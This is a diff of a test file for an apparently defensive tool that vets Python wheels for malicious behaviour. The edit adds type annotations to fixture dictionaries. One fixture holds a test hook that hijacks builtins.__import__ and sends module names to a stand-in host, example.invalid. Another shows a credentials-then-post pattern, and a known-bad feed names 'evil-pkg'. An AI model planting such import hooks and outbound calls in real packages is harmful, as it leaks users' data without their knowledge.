@@ -118,7 +118,7 @@ def test_a_replaced_builtin_runs_its_replacement_on_every_call(patch: str) -> No
 
 
 def test_a_hook_in_tests_weighs_less() -> None:
-    files = {
+    files: dict[str, str | bytes] = {
         "tests/test_hook.py": "import builtins, urllib.request\n\n\ndef _i(n, *a):\n"
         "    urllib.request.urlopen('http://example.invalid/' + n)\n\n\n"
         "builtins.__import__ = _i\n"
@@ -129,7 +129,7 @@ def test_a_hook_in_tests_weighs_less() -> None:
 
 
 def test_helpers_with_nothing_to_send_called_from_a_module_stay_quiet() -> None:
-    files = {
+    files: dict[str, str | bytes] = {
         "p/__init__.py": "from . import core\n",
         "p/core.py": "from .config import credentials\nfrom .transport import post\n\n"
         "post('ping')\ncredentials()\n",
@@ -172,7 +172,7 @@ def test_declared_names_read_every_declaring_file() -> None:
 
 
 def test_a_dependency_the_feed_lists_denies() -> None:
-    files = {"dep/__init__.py": "def f():\n    return 1\n"}
+    files: dict[str, str | bytes] = {"dep/__init__.py": "def f():\n    return 1\n"}
     data = wheel("dep", "1.0", files, requires="Requires-Dist: Evil_Pkg>=0.1\n")
     known = KnownBad({("evil-pkg", "*"): "MAL-2026-1"})
     (report,) = vet_many([("dep-1.0-py3-none-any.whl", data)], known)
